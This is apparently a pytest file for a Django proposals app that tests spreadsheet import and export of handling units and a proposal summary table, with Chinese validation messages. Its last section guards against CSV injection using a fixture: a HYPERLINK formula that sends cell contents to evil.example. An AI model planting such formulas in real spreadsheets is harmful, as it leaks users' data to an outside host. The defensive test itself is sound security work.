"""Spreadsheets of the proposals app: handling units and the 办理情况汇总表.

History imported from a file goes through the same services as items entered by hand: same
states, numbers, events and deadlines. A bad row writes nothing; the round trip changes nothing;
numbering continues after the imported numbers."""

import io
from datetime import date

import pytest
from auditlog.models import LogEntry as AuditEntry
from openpyxl import load_workbook

from congress.spreadsheets import export_file
from proposals import services
from proposals.models import (
    Assignment,
    Evaluation,
    Event,
    HandlingUnit,
    Kind,
    Notification,
    NumberSequence,
    Proposal,
    Reply,
    State,
    UnitKind,
    Verdict,
)
from tests.deputies.test_resources import messages, run, write_xlsx
from tests.factories import DeputyFactory, ProposalFactory, SessionFactory, TermFactory, UnitFactory
from tests.proposals import helpers

pytestmark = pytest.mark.django_db

UNITS = ["名称", "类型", "联系人", "电话"]
SUMMARY = [
    "编号",
    "类型",
    "标题",
    "内容",
    "领衔代表",
    "附议代表",
    "提出日期",
    "会议",
    "类别",
    "主办单位",
    "协办单位",
    "交办日期",
    "答复期限",
    "答复日期",
    "答复类别",
    "代表评价",
]
SUMMARY_WITH_STATE = [*SUMMARY, "办理状态"]


# Units


def test_units_import_and_round_trip(tmp_path, secretary):
    rows = [
        ["民政办", "乡镇站所", "王芳", "0855-3711001"],
        ["河东村", "村", "", ""],
        ["县交通运输局", "县直部门", "李强", 13912345678],
        ["司法所", "村(社区)", "", ""],
        ["石桥村", "村（社区）", "", ""],  # as the portal shows the kind
    ]
    report = run("units", write_xlsx(tmp_path / "u.xlsx", UNITS, rows), secretary)
    assert report.ok, messages(report)
    assert report.new == 5
    kinds = dict(HandlingUnit.objects.values_list("name", "kind"))
    assert kinds == {
        "民政办": UnitKind.TOWNSHIP_OFFICE,
        "河东村": UnitKind.VILLAGE,
        "县交通运输局": UnitKind.COUNTY_DEPARTMENT,
        "司法所": UnitKind.VILLAGE,
        "石桥村": UnitKind.VILLAGE,
    }
    assert HandlingUnit.objects.get(name="县交通运输局").phone == "13912345678"

    path = tmp_path / "export.xlsx"
    path.write_bytes(export_file("units", path.name))
    exported = list(load_workbook(path).active.iter_rows(values_only=True))
    assert list(exported[0]) == UNITS
    # Township offices first, then villages, then county departments.
    assert [r[1] for r in exported[1:]] == ["乡镇站所", "村", "村", "村", "县直部门"]
    assert exported[1][0] == "民政办" and exported[-1][0] == "县交通运输局"
    entries = AuditEntry.objects.count()
    report = run("units", path, secretary)
    assert report.ok and (report.new, report.updated, report.unchanged) == (0, 0, 5)
    assert AuditEntry.objects.count() == entries


def test_units_with_an_unknown_kind_or_twice_write_nothing(tmp_path, secretary):
    rows = [
        ["民政办", "乡镇站所", "", ""],
        ["民政办", "乡镇站所", "", ""],
        ["司法所", "站所", "", ""],
    ]
    report = run("units", write_xlsx(tmp_path / "u.xlsx", UNITS, rows), secretary)
    assert messages(report) == [
        "第3行 「名称」：此单位也出现在第2行。",
        "第4行 「类型」：“站所”不是可选的值，可选：乡镇站所、村、县直部门。",
    ]
    assert not HandlingUnit.objects.exists()


# The 办理情况汇总表


@pytest.fixture
def township(db):
    """Term 18 with its eighth session, six deputies and three units."""
    term = TermFactory(number=18)
    session = SessionFactory(
        term=term, number=8, start_date=date(2025, 1, 16), end_date=date(2025, 1, 17)
    )
    deputies = {name: DeputyFactory(name=name) for name in "赵一 钱二 孙三 李四 周五 吴六".split()}
    units = {
        name: UnitFactory(name=name, contact_person=f"{name}联系人", phone="0855-3710000")
        for name in ("民政办", "司法所", "交通站")
    }
    return SimpleTownship(session, deputies, units)


class SimpleTownship:
    def __init__(self, session, deputies, units):
        self.session, self.deputies, self.units = session, deputies, units


SESSION = "第十八届第八次会议"


def row(**values):
    cells = {
        "编号": 1,
        "类型": "建议",
        "标题": "关于修缮河东村村道的建议",
        "内容": "河东村村道破损严重，建议修缮。",
        "领衔代表": "赵一",
        "附议代表": "",
        "提出日期": "2025-01-16",
        "会议": SESSION,
        "类别": "交通",
        "主办单位": "",
        "协办单位": "",
        "交办日期": "",
        "答复期限": "",
        "答复日期": "",
        "答复类别": "",
        "代表评价": "",
        "办理状态": "",
    }
    cells.update(values)
    return [cells[h] for h in SUMMARY_WITH_STATE]


def handled(number, title, **values):
    """A suggestion assigned to 民政办 (with 司法所) on 2025-02-10 and replied on 2025-04-01."""
    cells = {
        "编号": number,
        "标题": title,
        "附议代表": "钱二、孙三",
        "主办单位": "民政办",
        "协办单位": "司法所",
        "交办日期": "2025-02-10",
        "答复日期": "2025/4/1",
        "答复类别": "A",
    }
    return row(**(cells | values))


HISTORY = [
    handled(1, "关于修缮河东村村道的建议", 代表评价="满意"),
    handled(2, "关于增设路灯的建议", 答复类别="B", 代表评价="不满意"),
    handled(3, "关于整治河道的建议", 答复类别="C", 代表评价="未评价", 类别="生态环境"),
    handled(4, "关于建设文化广场的建议", 答复类别="D", 办理状态="已办结"),
    handled(
        5,
        "关于改造农村电网的建议",
        答复日期="",
        答复类别="",
        答复期限="2025年8月10日",
        类别="城乡建设",
    ),
    row(编号=6, 标题="关于调整班车时刻的建议", 办理状态="已撤回"),
    row(编号=7, 标题="关于新建卫生室的建议", 类别="医疗卫生"),
    row(
        编号=1,
        类型="议案",
        标题="关于加强饮用水源保护的议案",
        附议代表="钱二、孙三、李四、周五",
        办理状态="列入议程",
        类别="生态环境",
    ),
    row(
        编号="建议第3号",
        标题="关于修复水毁便桥的建议",
        提出日期="2025-09-03",
        会议="闭会期间",
        主办单位="交通站",
        交办日期="2025-09-10",
        答复日期="2025-10-20",
        答复类别="A",
        代表评价="基本满意",
    ),
]


def import_history(tmp_path, secretary, rows=HISTORY, headers=SUMMARY_WITH_STATE):
    return run("proposals", write_xlsx(tmp_path / "history.xlsx", headers, rows), secretary)


def item(title):
    return Proposal.objects.get(title=title)


def steps(proposal):
    return [(e.action, e.from_state, e.to_state) for e in proposal.events.order_by("pk")]


def test_history_import_gives_states_numbers_and_deadlines(tmp_path, secretary, township):
    report = import_history(tmp_path, secretary)
    assert report.ok, messages(report)
    assert report.new == len(HISTORY)

    closed = item("关于修缮河东村村道的建议")
    assert (closed.state, closed.number, closed.session, closed.kind) == (
        State.CLOSED,
        1,
        township.session,
        Kind.SUGGESTION,
    )
    assert closed.submitted_date == date(2025, 1, 16)
    assert closed.deadline == date(2025, 5, 10)  # three months from assignment
    assert not closed.broad
    assert {d.name for d in closed.co_signers.all()} == {"钱二", "孙三"}
    lead = closed.assignments.get(role=Assignment.Role.LEAD)
    assert (lead.unit.name, lead.assigned_date, lead.deadline) == (
        "民政办",
        date(2025, 2, 10),
        date(2025, 5, 10),
    )
    co = closed.assignments.get(role=Assignment.Role.CO)
    assert (co.unit.name, co.deadline) == ("司法所", date(2025, 3, 10))
    reply = closed.replies.get()
    assert (reply.round, reply.category, reply.date, reply.contact_person) == (
        1,
        "A",
        date(2025, 4, 1),
        "民政办联系人",
    )
    assert closed.evaluations.get().verdict == Verdict.SATISFIED

    rehandling = item("关于增设路灯的建议")
    assert rehandling.state == State.REHANDLING
    assert rehandling.deadline == date(2025, 5, 1)  # one month after the evaluation

    lapsed = item("关于整治河道的建议")
    assert lapsed.state == State.CLOSED
    assert lapsed.evaluations.get().verdict == Verdict.NONE
    assert lapsed.evaluations.get().date == date(2025, 5, 1)

    assert item("关于建设文化广场的建议").state == State.CLOSED
    broad = item("关于改造农村电网的建议")
    assert (broad.state, broad.deadline, broad.broad) == (State.ASSIGNED, date(2025, 8, 10), True)
    assert item("关于调整班车时刻的建议").state == State.WITHDRAWN
    assert item("关于新建卫生室的建议").state == State.AWAITING_ASSIGNMENT
    motion = item("关于加强饮用水源保护的议案")
    assert (motion.kind, motion.number, motion.state) == (Kind.MOTION, 1, State.ON_AGENDA)
    between = item("关于修复水毁便桥的建议")
    assert (between.session, between.number_year, between.number, between.state) == (
        None,
        2025,
        3,
        State.CLOSED,
    )
    assert between.label == "2025年闭会期间建议第3号"

    # Every step is an event by the person importing (the lapse is the system's).
    assert steps(closed) == [
        ("create", "", State.DRAFT),
        ("register_suggestion", State.DRAFT, State.AWAITING_ASSIGNMENT),
        ("assign", State.AWAITING_ASSIGNMENT, State.ASSIGNED),
        ("reply", State.ASSIGNED, State.REPLIED),
        ("accept_reply", State.REPLIED, State.CLOSED),
    ]
    assert [a for a, *_ in steps(lapsed)][-1] == "lapse"
    assert [a for a, *_ in steps(item("关于建设文化广场的建议"))][-1] == "close"
    assert set(Event.objects.exclude(action="lapse").values_list("actor", flat=True)) == {
        secretary.pk
    }
    assert not Event.objects.filter(action="lapse").exclude(actor=None).exists()
    # History is not news: nobody's inbox hears of it.
    assert not Notification.objects.exists()


def test_imported_history_has_the_steps_of_an_item_entered_by_hand(tmp_path, secretary, township):
    report = import_history(tmp_path, secretary, rows=[HISTORY[1]])
    assert report.ok, messages(report)
    imported = item("关于增设路灯的建议")

    by_hand = Proposal(
        title="路灯",
        content="增设路灯",
        topic="transport",
        session=township.session,
        lead_deputy=township.deputies["赵一"],
    )
    services.proposal_draft(
        actor=secretary, proposal=by_hand, co_signers=[township.deputies["钱二"]]
    )
    helpers.assigned(
        by_hand,
        secretary,
        township.units["民政办"],
        co_units=[township.units["司法所"]],
        assigned_date=date(2025, 2, 10),
    )
    services.reply_submit(
        actor=secretary,
        proposal=by_hand,
        version=by_hand.version,
        reply=Reply(
            text="正在安装", category="B", contact_person="王", phone="1", date=date(2025, 4, 1)
        ),
    )
    services.evaluation_submit(
        actor=secretary,
        proposal=by_hand,
        deputy=by_hand.lead_deputy,
        verdict=Verdict.UNSATISFIED,
        comment="进度太慢",
        day=date(2025, 4, 1),
    )
    by_hand.refresh_from_db()
    assert steps(imported) == steps(by_hand)
    assert (imported.state, imported.deadline, imported.version) == (
        by_hand.state,
        by_hand.deadline,
        by_hand.version,
    )
    # The item entered by hand after the import took the next number.
    assert by_hand.number == 3


def test_numbering_continues_after_the_imported_numbers(tmp_path, secretary, township):
    assert import_history(tmp_path, secretary).ok
    in_session = helpers.registered(
        ProposalFactory(session=township.session), secretary, submitted_date=date(2025, 1, 17)
    )
    assert in_session.number == 8
    between = helpers.registered(ProposalFactory(), secretary, submitted_date=date(2025, 11, 1))
    assert between.number == 4
    motion = helpers.registered(
        helpers.motion(session=township.session), secretary, submitted_date=date(2025, 1, 17)
    )
    assert motion.number == 2
    assert NumberSequence.objects.get(scope="suggestion:year:2025").last == 4


def test_a_given_number_already_taken_is_refused_by_the_service(secretary, township):
    first = helpers.registered(ProposalFactory(session=township.session), secretary)
    second = ProposalFactory(session=township.session, created_by=secretary)  # as imported
    with pytest.raises(Exception, match="编号1已由同类的另一件使用"):
        services.proposal_register(
            actor=secretary, proposal=second, version=second.version, number=first.number
        )


def export_rows(tmp_path, name="summary.xlsx"):
    path = tmp_path / name
    path.write_bytes(export_file("proposals", path.name))
    return path, list(load_workbook(path).active.iter_rows(values_only=True))


def test_the_export_is_the_summary_table_in_number_order(tmp_path, secretary, township):
    assert import_history(tmp_path, secretary).ok
    ProposalFactory(session=township.session)  # a draft has no number: not listed
    _path, rows = export_rows(tmp_path)
    assert list(rows[0]) == SUMMARY_WITH_STATE
    table = [dict(zip(SUMMARY_WITH_STATE, r, strict=True)) for r in rows[1:]]
    assert [(r["会议"], r["类型"], r["编号"]) for r in table] == [
        (SESSION, "议案", 1),
        *[(SESSION, "建议", n) for n in range(1, 8)],
        ("闭会期间", "建议", 3),
    ]
    first = table[1]
    assert first == {
        "编号": 1,
        "类型": "建议",
        "标题": "关于修缮河东村村道的建议",
        "内容": "河东村村道破损严重，建议修缮。",
        "领衔代表": "赵一",
        "附议代表": "孙三、钱二",
        "提出日期": "2025-01-16",
        "会议": SESSION,
        "类别": "交通",
        "主办单位": "民政办",
        "协办单位": "司法所",
        "交办日期": "2025-02-10",
        "答复期限": "2025-05-10",
        "答复日期": "2025-04-01",
        "答复类别": "A",
        "代表评价": "满意",
        "办理状态": "已办结",
    }
    assert [r["办理状态"] for r in table[2:7]] == [
        "重新办理",
        "已办结",
        "已办结",
        "已交办",
        "已撤回",
    ]
    assert table[3]["代表评价"] == "未评价"


def test_the_round_trip_changes_nothing(tmp_path, secretary, township):
    assert import_history(tmp_path, secretary).ok
    # A later round and a returned assignment still export to a row that matches.
    item_ = item("关于增设路灯的建议")
    services.reply_submit(
        actor=secretary,
        proposal=item_,
        version=item_.version,
        reply=Reply(
            text="已安装", category="A", contact_person="王", phone="1", date=date(2025, 4, 20)
        ),
    )
    path, _rows = export_rows(tmp_path)
    before = (
        list(Event.objects.values_list("pk", flat=True)),
        list(Proposal.objects.values_list("pk", "state", "version")),
        list(NumberSequence.objects.values_list("scope", "last")),
    )
    report = run("proposals", path, secretary)
    assert report.ok, messages(report)
    assert (report.new, report.updated, report.unchanged) == (0, 0, len(HISTORY))
    after = (
        list(Event.objects.values_list("pk", flat=True)),
        list(Proposal.objects.values_list("pk", "state", "version")),
        list(NumberSequence.objects.values_list("scope", "last")),
    )
    assert after == before


def test_an_export_without_the_state_column_imports_the_same_history(tmp_path, secretary, township):
    rows = [r[:-1] for r in HISTORY if not r[-1]]
    report = import_history(tmp_path, secretary, rows=rows, headers=SUMMARY)
    assert report.ok, messages(report)
    assert report.new == len(rows)


def test_a_row_differing_from_the_recorded_item_is_refused(tmp_path, secretary, township):
    assert import_history(tmp_path, secretary, rows=HISTORY[:1]).ok
    edited = handled(1, "关于修缮河东村村道的建议", 代表评价="基本满意", 答复类别="B")
    report = import_history(tmp_path, secretary, rows=[edited, HISTORY[6]])
    assert messages(report) == [
        "第2行：第十八届第八次会议建议第1号已经登记，其答复类别、代表评价与此不同。导入不修改已登记的"
        "议案建议；请在系统中办理。"
    ]
    assert Proposal.objects.count() == 1


def assert_nothing_written():
    assert not Proposal.objects.exists()
    assert not Event.objects.exists()
    assert not Assignment.objects.exists()
    assert not Reply.objects.exists()
    assert not Evaluation.objects.exists()
    assert not NumberSequence.objects.filter(last__gt=0).exists()


@pytest.mark.parametrize(
    ("bad", "expected"),
    [
        (row(编号=2, 领衔代表="郑七"), "第3行 「领衔代表」：没有名为“郑七”的代表。"),
        (row(编号=2, 附议代表="钱二、郑七"), "第3行 「附议代表」：没有名为“郑七”的代表。"),
        (
            handled(2, "乙", 主办单位="水利站"),
            "第3行 「主办单位」：没有名为水利站的承办单位，请先导入或录入承办单位。"
            "现有承办单位：交通站、司法所、民政办。",
        ),
        (
            handled(2, "乙", 协办单位="司法所、水利站"),
            "第3行 「协办单位」：没有名为水利站的承办单位，请先导入或录入承办单位。"
            "现有承办单位：交通站、司法所、民政办。",
        ),
        (
            row(编号=2, 会议="第十八届第九次会议"),
            "第3行 「会议」：第18届没有第9次会议，请先录入该次会议。"
            "已录入的会议：第十八届第八次会议。",
        ),
        (
            row(编号=2, 会议="春季会议"),
            "第3行 「会议」：“春季会议”不是会议，请写成第十八届第八次会议，或闭会期间。",
        ),
        (
            row(编号=2, 提出日期="2025-02-30"),
            "第3行 「提出日期」：“2025-02-30”不是日期，请写成 2024-03-05、2024/3/5 或 2024年3月5日。",
        ),
        (
            row(编号=2, 答复日期="2025-04-01", 答复类别="A"),
            "第3行 「答复日期」：有答复须先交办：请填写交办日期和主办单位。",
        ),
        (row(编号=1, 标题="乙"), "第3行 「编号」：同一会议（或年度）的同一编号也出现在第2行。"),
        (
            handled(2, "乙", 答复日期="", 答复类别="", 代表评价="满意"),
            "第3行 「代表评价」：有答复才能评价：请填写答复日期。",
        ),
        (handled(2, "乙", 答复类别=""), "第3行 「答复类别」：请填写答复类别（A、B、C或D）。"),
        (
            handled(2, "乙", 答复类别="E"),
            "第3行 「答复类别」：“E”不是可选的值，可选：A、B、C、D。",
        ),
        (
            handled(2, "乙", 交办日期="2025-01-10"),
            "第3行 「交办日期」：交办日期早于提出日期。",
        ),
        (
            row(编号=2, 类型="议案", 附议代表="钱二"),
            "第3行 「附议代表」：议案须由5名以上代表联名提出（含领衔代表）。",
        ),
        (
            row(编号=2, 类型="议案", 会议="闭会期间", 附议代表="钱二、孙三、李四、周五"),
            "第3行 「会议」：议案在会议期间提出；闭会期间提出的是建议。",
        ),
        (
            handled(2, "乙", 办理状态="已撤回"),
            "第3行 「办理状态」：按其他各列，办理状态只能是已答复、已办结。",
        ),
        (row(编号="", 标题=""), "第3行 「编号」：“编号”为空。"),
    ],
)
def test_every_bad_row_writes_nothing(tmp_path, secretary, township, bad, expected):
    report = import_history(tmp_path, secretary, rows=[HISTORY[0], bad])
    assert expected in messages(report)
    assert_nothing_written()


def test_a_dry_run_writes_nothing(tmp_path, secretary, township):
    path = write_xlsx(tmp_path / "history.xlsx", SUMMARY_WITH_STATE, HISTORY)
    report = run("proposals", path, secretary, dry_run=True)
    assert report.ok and report.new == len(HISTORY)
    assert_nothing_written()


def test_the_export_costs_a_constant_number_of_queries(tmp_path, secretary, township):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    def cost():
        with CaptureQueriesContext(connection) as queries:
            export_file("proposals", "x.xlsx")
        return len(queries)

    assert import_history(tmp_path, secretary, rows=HISTORY[:2]).ok
    few = cost()
    assert import_history(tmp_path, secretary, rows=HISTORY[2:]).ok
    assert cost() == few


# Exports cannot attack the reader (OWASP's CSV-injection rule)

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'


def test_a_formula_typed_through_the_portal_is_text_in_every_export(tmp_path, secretary):
    helpers.registered(ProposalFactory(title=FORMULA_TITLE), secretary)
    sheet = load_workbook(io.BytesIO(export_file("proposals", "p.xlsx"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULA_TITLE]
    assert cells and all(cell.data_type == "s" for cell in cells)  # "f" would run it
    text = export_file("proposals", "p.csv").decode("utf-8-sig")
    assert f"'{FORMULA_TITLE}" in text.replace('""', '"')
    assert not any(
        cell.lstrip('"').startswith(("=", "+", "-", "@"))
        for line in text.splitlines()
        for cell in line.split(",")
    )


@pytest.mark.parametrize("name", ["=1+1", "+86 民政办", "-民政办", "@SUM(A1)"])
def test_an_imported_formula_comes_out_as_text_and_round_trips(tmp_path, secretary, name):
    typed = tmp_path / "typed.csv"  # as a clerk's CSV holds it: the bare text
    typed.write_text(",".join(UNITS) + f"\n{name},村,,\n", encoding="utf-8")
    report = run("units", typed, secretary)
    assert report.ok, messages(report)
    assert HandlingUnit.objects.get().name == name
    exported = tmp_path / "u.csv"
    exported.write_bytes(export_file("units", "u.csv"))
    assert f"'{name}" in exported.read_text("utf-8-sig")
    xlsx = load_workbook(io.BytesIO(export_file("units", "u.xlsx"))).active
    assert [c.data_type for row in xlsx.iter_rows() for c in row if c.value == name] == ["s"]
    # The apostrophe the export added is taken off again: the round trip changes nothing.
    again = run("units", exported, secretary)
    assert again.ok and (again.new, again.updated) == (0, 0), messages(again)
    assert HandlingUnit.objects.get().name == name
